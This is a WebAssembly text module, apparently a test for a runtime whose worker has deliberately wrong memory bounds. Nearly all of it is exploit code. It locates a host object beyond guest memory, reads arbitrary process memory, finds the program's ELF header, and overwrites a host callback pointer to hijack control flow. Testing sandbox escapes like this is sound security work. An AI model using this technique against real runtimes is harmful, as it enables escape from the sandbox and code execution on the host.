;; Reaches beyond its memory, in a worker whose bounds are wrong (tests/faulty): finds an object of the host's there, has it point
;; to another function, and has the host call it. Attackers have offsets from a copy of the program: `distance`.
(module
  (import "faulty" "session_call" (func $call (param i64) (result i64)))
  ;; Not called: a worker whose guest can open files has more of the system calls.
  (import "wasi_snapshot_preview1" "path_open"
    (func (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (memory (export "memory") i64 1)
  (global $magic i64 (i64.const 0x5e5510f0b01dfa17))
  (func (export "put") (param $at i32) (param $word i64)
    (i64.store (i64.extend_i32_u (local.get $at)) (local.get $word)))

  ;; Where in front of it the host's object is.
  (func $find (result i64)
    (local $at i64)
    (local.set $at (i64.const 65536))
    (block $found
      (loop $next
        (br_if $found (i64.eq (i64.load (local.get $at)) (global.get $magic)))
        (local.set $at (i64.add (local.get $at) (i64.const 8)))
        (br $next)))
    (local.get $at))

  ;; A word at any address of the process, as loads of this memory reach it.
  (func $peek (export "peek") (param $address i64) (result i64)
    (i64.load (i64.sub (local.get $address) (call $base))))
  (func $base (result i64) (i64.load (i64.add (call $find) (i64.const 16))))

  ;; The first word of the program, which nobody gave it: below the function that the object points to, page by page.
  (func (export "program") (result i64)
    (local $at i64)
    (local.set $at (i64.and (i64.load (i64.add (call $find) (i64.const 8))) (i64.const -4096)))
    (block $found
      (loop $next
        (br_if $found (i64.eq (i64.and (call $peek (local.get $at)) (i64.const 0xffffffff)) (i64.const 0x464c457f)))
        (local.set $at (i64.sub (local.get $at) (i64.const 4096)))
        (br $next)))
    (i64.and (call $peek (local.get $at)) (i64.const 0xffffffff)))

  (func (export "attack") (param $distance i64) (param $order i32) (result i64)
    (local $callback i64) (local $honest i64) (local $came i64)
    (local.set $callback (i64.add (call $find) (i64.const 8)))
    (local.set $honest (i64.load (local.get $callback)))
    (i64.store (local.get $callback) (i64.add (local.get $honest) (local.get $distance)))
    (local.set $came (call $call (i64.add (call $base) (i64.extend_i32_u (local.get $order)))))
    ;; So that it can be done again.
    (i64.store (local.get $callback) (local.get $honest))
    (local.get $came)))
